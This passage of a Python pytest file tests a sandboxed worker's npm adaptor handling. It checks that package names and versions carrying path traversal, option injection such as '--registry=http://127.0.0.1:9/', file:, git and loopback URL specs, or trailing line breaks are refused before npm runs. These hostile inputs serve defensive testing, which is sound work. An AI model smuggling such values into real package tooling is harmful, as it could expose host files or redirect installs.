    code = r"""
  setInterval(() => {}, 1000);
  return { data: { nodeStarted } };
"""
    result = single(javascript, js_plan(attack(code), run_timeout_ms=8000))

    assert result.outcome == ("success", None)
    assert result.took < 5, f"the finished run ended only after {result.took:.1f}s"


# -- 7. the worker's install path -----------------------------------------------------------


@pytest.fixture
def repo(tmp_path: Path) -> NpmRepo:
    """A repository of its own (``WORKER_REPO_DIR``), in a directory of the test's own."""
    made = NpmRepo(tmp_path / "repo")
    made.prepare()
    return made


def _outside(tmp_path: Path, name: str) -> Path:
    """A package directory outside the repository, as any directory of the worker's host."""
    folder = tmp_path / name
    folder.mkdir()
    manifest = {"name": "@openfn/language-common", "version": "7.7.7"}
    (folder / "package.json").write_text(json.dumps(manifest))
    return folder


def _git_repo(tmp_path: Path) -> Path:
    folder = _outside(tmp_path, "outside-git")
    git = ["git", "-c", "user.email=a@example.org", "-c", "user.name=a", "-C", str(folder)]
    for arguments in (["init", "-q"], ["add", "package.json"], ["commit", "-qm", "x"]):
        subprocess.run([*git, *arguments], check=True, capture_output=True)
    return folder


@contextlib.contextmanager
def loopback_http() -> Iterator[tuple[int, list[str]]]:
    """A service on the host's loopback answering 404 to every GET; the paths it was asked."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(404)
            self.send_header("content-length", "0")
            self.end_headers()

        def log_message(self, format: str, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server.server_address[1], asked
    finally:
        server.shutdown()
        server.server_close()


@pytest.mark.parametrize("kind", ["file", "relative", "git", "http"])
def test_resolving_a_version_asks_the_registry_and_nothing_else(
    repo: NpmRepo, tmp_path: Path, kind: str
) -> None:
    """``NpmRepo.resolve(name, wanted)`` turns a tag or a range into an exact version by
    asking npm (``npm view name@wanted``), outside the sandbox, as the worker. Anything else
    npm takes for a spec of its own kind (a path on the worker's host, a git repository to
    clone, a URL to fetch, the host's loopback included) must be refused before npm sees it,
    whoever the caller is: the worker's own reads a plan's adaptor first
    (``adaptor_versions.parse_request``), this is the last line."""
    with loopback_http() as (port, asked):
        wanted = {
            "file": lambda: f"file:{_outside(tmp_path, 'outside-dir')}",
            "relative": lambda: f"../{_outside(tmp_path, 'outside-relative').name}",
            "git": lambda: f"git+file://{_git_repo(tmp_path)}",
            "http": lambda: f"http://127.0.0.1:{port}/adaptor.tgz",
        }[kind]()

        async def main() -> str:
            async with asyncio.timeout(60):
                return await repo.resolve("@openfn/language-common", wanted, lambda line: None)

        with pytest.raises(AdaptorError):
            version = asyncio.run(main())
            pytest.fail(f"npm resolved {wanted!r} to {version!r}: it read the host's files")
    assert asked == [], "npm fetched from the host's loopback"


@pytest.mark.parametrize(
    "name",
    [
        "../../x",
        "@openfn/../../x",
        "@openfn/language-common/../../x",
        "-x",
        "--registry=http://127.0.0.1:9/",
        "x y",
        "",
    ],
)
def test_a_name_never_reaches_a_path_or_npm_s_command_line(
    repo: NpmRepo, tmp_path: Path, name: str
) -> None:
    """Path traversal and option injection in a package's name: refused before anything is
    made or run."""

    async def main() -> None:
        await repo.adaptor(name, "1.0.0", lambda line: None)

    with pytest.raises(AdaptorError, match="is not the name of an npm package"):
        asyncio.run(main())
    assert sorted(p.name for p in tmp_path.rglob("*")) == ["adaptors", "host", "repo"]


def test_a_version_that_is_not_exact_is_not_installed(repo: NpmRepo) -> None:
    """Option injection in a version: refused, npm never started."""

    async def main() -> None:
        spec = "3.3.4 --registry=http://127.0.0.1:9/"
        await repo.adaptor("@openfn/language-common", spec, lambda line: None)

    with pytest.raises(AdaptorError, match="only an exact version"):
        asyncio.run(main())


def test_a_name_with_a_line_break_is_refused(repo: NpmRepo) -> None:
    """npm's rules allow no line break in a name; Python's ``$`` matches before a final one,
    so the check must not take ``name\\n`` for ``name``: such a name would reach npm's
    command line and a path in the repository."""

    async def main() -> str:
        return await repo.resolve("@openfn/language-common\n", "3.3.4", lambda line: None)

    with pytest.raises(AdaptorError, match="is not the name of an npm package"):
        asyncio.run(main())


def test_a_version_with_a_line_break_is_refused(
    repo: NpmRepo, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The same for an exact version (``3.3.4\\n``): refused before npm, never a directory of
    the repository (npm is pointed at a closed port, so that it fails at once if asked)."""
    with listening() as closed:
        monkeypatch.setenv("npm_config_registry", f"http://127.0.0.1:{closed.getsockname()[1]}/")
    monkeypatch.setenv("npm_config_fetch_retries", "0")
    monkeypatch.setenv("npm_config_cache", str(tmp_path / "npm-cache"))

    async def main() -> None:
        async with asyncio.timeout(60):
            await repo.adaptor("@openfn/language-common", "3.3.4\n", lambda line: None)

    with pytest.raises(AdaptorError, match="only an exact version"):
        asyncio.run(main())
    assert not [p for p in repo.root.rglob("*") if "\n" in p.name]
